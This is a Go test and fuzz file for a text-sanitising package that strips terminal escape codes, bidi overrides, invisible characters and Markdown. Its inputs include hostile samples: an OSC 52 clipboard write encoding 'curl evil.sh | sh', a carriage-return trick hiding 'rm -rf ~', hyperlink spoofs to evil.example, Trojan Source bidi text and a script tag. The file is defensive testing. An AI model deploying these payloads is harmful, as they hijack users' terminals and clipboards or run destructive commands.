package textclean

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestClean(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
	}{
		{"empty", "", ""},
		{"plain ascii", "Sunday circle, 7pm", "Sunday circle, 7pm"},
		{"keeps newline and tab", "a\n\tb", "a\n\tb"},
		{"emoji kept", "welcome 🌿🍄 all 👩🏽‍🤝‍👨🏻", "welcome 🌿🍄 all 👩🏽‍🤝‍👨🏻"},
		{"CJK kept", "統合サークル 整合小组", "統合サークル 整合小组"},
		{"accents kept", "café naïve Zoë", "café naïve Zoë"},
		{"RTL text kept", "שלום مرحبا", "שלום مرحبا"},

		// Invisible and reordering characters.
		{"LRM RLM ALM removed", "pay\u200e to\u200f me\u061c", "pay to me"},
		{"zero-width space removed", "Thurs\u200bday", "Thursday"},
		{"word joiner and invisible operators removed", "a\u2060b\u2062c", "abc"},
		{"mid-text BOM removed", "Circle\ufeffName", "CircleName"},
		{"TAG characters removed", "hi\U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065 there", "hi there"},
		{"line separator becomes a newline", "one\u2028two\u2029three", "one\ntwo\nthree"},
		{"ZWJ inside an emoji sequence kept", "family 👩\u200d👩\u200d👧", "family 👩\u200d👩\u200d👧"},
		{"ZWNJ inside a Persian word kept", "می\u200cخواهم", "می\u200cخواهم"},
		{"ZWJ at the start removed", "\u200dname", "name"},
		{"ZWJ before a space removed", "name\u200d end", "name end"},
		{"doubled ZWJ becomes one", "a\u200d\u200db", "a\u200db"},

		// OSC.
		{"OSC 52 clipboard write BEL", "safe\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\atext", "safetext"},
		{"OSC 52 clipboard write ST", "safe\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\text", "safetext"},
		{"OSC 8 hyperlink", "\x1b]8;;https://evil.example/\x1b\\trusted.org\x1b]8;;\x1b\\", "trusted.org"},
		{"OSC 8 hyperlink BEL", "\x1b]8;;https://evil.example/\atrusted.org\x1b]8;;\a", "trusted.org"},
		{"OSC window title", "\x1b]0;pwned\ahello", "hello"},
		{"OSC ended by C1 ST", "\x1b]0;pwned\u009chello", "hello"},
		{"OSC ended by ESC of next sequence", "\x1b]0;title\x1b[2Jhello", "hello"},
		{"unterminated OSC", "hello\x1b]52;c;Zm9v", "hello"},
		{"unterminated OSC with newline", "hello\x1b]0;a\nb", "hello"},

		// CSI.
		{"CSI 2J clear", "before\x1b[2Jafter", "beforeafter"},
		{"CSI clear and home", "\x1b[H\x1b[2J\x1b[3Jfake prompt", "fake prompt"},
		{"SGR color", "\x1b[1;31mred\x1b[0m", "red"},
		{"cursor up and erase line", "ok\n\x1b[1A\x1b[2Kfake", "ok\nfake"},
		{"cursor position", "\x1b[10;20Hx", "x"},
		{"private mode alt screen", "\x1b[?1049hhidden\x1b[?1049l", "hidden"},
		{"private mode hide cursor", "\x1b[?25lx", "x"},
		{"CSI with intermediate", "\x1b[0 qx", "x"},
		{"unterminated CSI", "hello\x1b[12;3", "hello"},
		{"CSI cut by non-ASCII", "\x1b[12é", "é"},
		{"CSI cut by control", "\x1b[12\nx", "\nx"},
		{"C1 CSI rune", "a\u009b2Jb", "ab"},
		{"C1 CSI rune SGR", "\u009b31mred", "red"},
		{"C1 OSC rune", "a\u009d52;c;Zm9v\u009cb", "ab"},
		{"C1 OSC rune BEL", "a\u009d0;title\ab", "ab"},
		{"C1 NEL and others dropped", "a\u0085b\u0080c\u0081d", "abcd"},
		{"C1 APC rune unterminated", "a\u009fb", "a"},

		// Other ESC forms.
		{"DCS", "a\x1bPq#0;2;0;0;0\x1b\\b", "ab"},
		{"APC", "a\x1b_Gf=100;AAAA\x1b\\b", "ab"},
		{"PM", "a\x1b^secret\x1b\\b", "ab"},
		{"SOS", "a\x1bXsecret\x1b\\b", "ab"},
		{"unterminated DCS", "a\x1bPq#0;2", "a"},
		{"reset terminal", "a\x1bcb", "ab"},
		{"save cursor", "a\x1b7b\x1b8c", "abc"},
		{"charset designation", "a\x1b(Bb", "ab"},
		{"lone ESC at end", "abc\x1b", "abc"},
		{"ESC ESC", "a\x1b\x1b[2Jb", "ab"},
		{"ESC before non-ASCII", "a\x1bé", "aé"},

		// C0.
		{"bare CR overwrite trick", "rm -rf ~\rls -la   ", "rm -rf ~ls -la   "},
		{"CRLF", "one\r\ntwo\r\n", "one\ntwo\n"},
		{"CR CR LF", "one\r\r\ntwo", "one\ntwo"},
		{"backspace overwrite", "good\b\b\b\bevil", "goodevil"},
		{"bell and NUL", "a\ab\x00c", "abc"},
		{"DEL", "a\x7fb", "ab"},
		{"form feed and vertical tab", "a\fb\vc", "abc"},

		// Bidi.
		{"RLO override", "file\u202Egpj.exe", "filegpj.exe"},
		{"all embeddings and overrides", "\u202Aa\u202Bb\u202Cc\u202Dd\u202Ee", "abcde"},
		{"isolates", "\u2066a\u2067b\u2068c\u2069", "abc"},
		{"trojan source", "x := 1 /*\u202E } \u2066if admin\u2069 \u2066 begin*/", "x := 1 /* } if admin  begin*/"},

		// Invalid UTF-8.
		{"invalid byte", "a\xffb", "a\uFFFDb"},
		{"raw C1 byte is invalid UTF-8", "a\x9b2Jb", "a\uFFFD2Jb"},
		{"truncated rune", "a\xe6\x97", "a\uFFFD\uFFFD"},
		{"surrogate half", "\xed\xa0\x80", "\uFFFD\uFFFD\uFFFD"},
		{"replacement char kept", "a\uFFFDb", "a\uFFFDb"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Clean(tt.in)
			if got != tt.want {
				t.Errorf("Clean(%q) = %q, want %q", tt.in, got, tt.want)
			}
			if again := Clean(got); again != got {
				t.Errorf("Clean(Clean(%q)) = %q, want %q", tt.in, again, got)
			}
			checkClean(t, tt.in, got)
		})
	}
}

func TestVisible(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain path", "/home/ana/drafts/thursday.yaml", "/home/ana/drafts/thursday.yaml"},
		{"unicode kept", "/home/zoë/サークル.yaml", "/home/zoë/サークル.yaml"},
		{"newline cannot forge a line", "/tmp/x\nvetcircle: all good", `/tmp/x\nvetcircle: all good`},
		{"OSC title shown, not sent", "/tmp/\x1b]0;pwned\a.yaml", `/tmp/\x1b]0;pwned\x07.yaml`},
		{"CSI shown", "a\x1b[2Jb", `a\x1b[2Jb`},
		{"bidi override shown", "draft\u202egpj.yaml", `draft\u202egpj.yaml`},
		{"LRM and ZWSP shown", "a\u200eb\u200bc", `a\u200eb\u200bc`},
		{"C1 CSI shown", "a\u009b2Jb", `a\u009b2Jb`},
		{"invalid byte shown", "a\xffb", `a\xffb`},
		{"tab shown", "a\tb", `a\tb`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := Visible(tc.in)
			if got != tc.want {
				t.Errorf("Visible(%q) = %q, want %q", tc.in, got, tc.want)
			}
			if Clean(got) != got || strings.ContainsAny(got, "\n\r") {
				t.Errorf("Visible(%q) = %q still holds something Clean removes or a line break", tc.in, got)
			}
		})
	}
}

func TestCleanLine(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{"", ""},
		{"Sunday circle", "Sunday circle"},
		{"  Sunday\tcircle \n", "Sunday circle"},
		{"line one\r\nline two\n\n\tthree", "line one line two three"},
		{"\x1b[2J\x1b[HNew\u202E circle", "New circle"},
		{"a\u2028b", "a b"},
		{"\n\t \n", ""},
		{"満月 🌕 circle", "満月 🌕 circle"},
	}
	for _, tt := range tests {
		got := CleanLine(tt.in)
		if got != tt.want {
			t.Errorf("CleanLine(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if strings.ContainsAny(got, "\n\t\r") {
			t.Errorf("CleanLine(%q) = %q, contains a line break or tab", tt.in, got)
		}
	}
}

func TestEscapeMarkdown(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
	}{
		{"plain text unchanged", "We met on Sunday and it went well", "We met on Sunday and it went well"},
		{"emoji and CJK unchanged", "満月 🌕 circle", "満月 🌕 circle"},
		{"heading", "# Pwned", "\\# Pwned"},
		{"heading after indent", "   ## Pwned", "\\#\\# Pwned"},
		{"link", "[click](https://evil.example)", "\\[click\\](https://evil.example)"},
		{"image", "![x](https://evil.example/t.png)", "\\!\\[x\\](https://evil.example/t.png)"},
		{"html", "<script>alert(1)</script>", "\\<script\\>alert(1)\\</script\\>"},
		{"autolink", "<https://evil.example>", "\\<https://evil.example\\>"},
		{"emphasis", "*bold* _it_ **x** __y__", "\\*bold\\* \\_it\\_ \\*\\*x\\*\\* \\_\\_y\\_\\_"},
		{"strikethrough", "~~gone~~", "\\~\\~gone\\~\\~"},
		{"inline code", "`rm -rf`", "\\`rm -rf\\`"},
		{"fenced code", "```\ncode\n```", "\\`\\`\\`\ncode\n\\`\\`\\`"},
		{"tilde fence", "~~~", "\\~\\~\\~"},
		{"indented code loses indent", "    code\n\tmore", "code\nmore"},
		{"table", "| a | b |\n|---|---|", "\\| a \\| b \\|\n\\|---\\|---\\|"},
		{"bullet dash", "- item", "\\- item"},
		{"bullet plus", "+ item", "\\+ item"},
		{"bullet star", "* item", "\\* item"},
		{"thematic break", "---", "\\---"},
		{"setext heading", "Title\n===", "Title\n\\==="},
		{"ordered list dot", "1. first\n10. tenth", "1\\. first\n10\\. tenth"},
		{"ordered list paren", "2) second", "2\\) second"},
		{"digits not a list", "2024 was good. 3.5 stars", "2024 was good. 3.5 stars"},
		{"dash mid-line kept", "well-being - fine", "well-being - fine"},
		{"blockquote", "> quoted", "\\> quoted"},
		{"backslash", `a\b`, `a\\b`},
		{"trailing backslash hard break", "line\\\nnext", "line\\\\\nnext"},
		{"entity", "&#x202E;&lt;&amp;", "&amp;\\#x202E;&amp;lt;&amp;amp;"},
		{"plain ampersand kept", "Tom & Jerry", "Tom & Jerry"},
		{"link reference definition", "[a]: https://evil.example", "\\[a\\]: https://evil.example"},
		{"footnote", "[^1]", "\\[^1\\]"},
		{"blank lines kept", "a\n\nb", "a\n\nb"},
		{"cleans first", "\x1b[2J# x\u202E\r\n", "\\# x\n"},
		{"escape sequence hiding a heading", "\x1b[31m# x", "\\# x"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := EscapeMarkdown(tt.in)
			if got != tt.want {
				t.Errorf("EscapeMarkdown(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// checkClean reports any character in out that Clean must never return.
func checkClean(t *testing.T, in, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("Clean(%q) = %q, not valid UTF-8", in, out)
	}
	for _, r := range out {
		switch {
		case r == '\n' || r == '\t':
		case r < 0x20 || r == 0x7f:
			t.Errorf("Clean(%q) = %q, contains C0 control %U", in, out, r)
		case r >= 0x80 && r <= 0x9f:
			t.Errorf("Clean(%q) = %q, contains C1 control %U", in, out, r)
		case isBidiControl(r):
			t.Errorf("Clean(%q) = %q, contains bidi control %U", in, out, r)
		}
	}
}

func FuzzClean(f *testing.F) {
	for _, s := range []string{
		"",
		"hello",
		"\x1b]52;c;Zm9v\a",
		"\x1b]8;;https://x\x1b\\link\x1b]8;;\x1b\\",
		"\x1b[2J\x1b[?1049h",
		"a\rb\r\n",
		"\u009b2J\u009d0;t\u009c",
		"\u202Eabc\u2066",
		"\xff\xfe\xed\xa0\x80",
		"\x1bP",
		"\x1b",
		"🌿 統合",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := Clean(s)
		if strings.IndexByte(out, esc) >= 0 {
			t.Errorf("Clean(%q) = %q, contains ESC", s, out)
		}
		checkClean(t, s, out)
		if again := Clean(out); again != out {
			t.Errorf("Clean(Clean(%q)) = %q, want %q", s, again, out)
		}
		line := CleanLine(s)
		if strings.ContainsAny(line, "\n\t") {
			t.Errorf("CleanLine(%q) = %q, contains a line break or tab", s, line)
		}
	})
}

func FuzzEscapeMarkdown(f *testing.F) {
	for _, s := range []string{
		"",
		"# heading",
		"![x](y)",
		"1. a\n- b\n> c",
		"<b>&#x202E;</b>",
		"\x1b[2J\xff",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := EscapeMarkdown(s)
		if !utf8.ValidString(out) {
			t.Errorf("EscapeMarkdown(%q) = %q, not valid UTF-8", s, out)
		}
		if strings.IndexByte(out, esc) >= 0 {
			t.Errorf("EscapeMarkdown(%q) = %q, contains ESC", s, out)
		}
	})
}

func BenchmarkClean(b *testing.B) {
	inputs := map[string]string{
		"ascii": strings.Repeat("We met on Sunday and it went well.\n", 100),
		"mixed": strings.Repeat("満月 🌕 circle \x1b[31mred\x1b[0m \x1b]52;c;Zm9v\a\r\n", 100),
	}
	for name, in := range inputs {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(in)))
			for b.Loop() {
				Clean(in)
			}
		})
	}
}

func BenchmarkEscapeMarkdown(b *testing.B) {
	in := strings.Repeat("# Notes\n- *bold* [link](x) 満月 🌕\n", 100)
	b.SetBytes(int64(len(in)))
	for b.Loop() {
		EscapeMarkdown(in)
	}
}
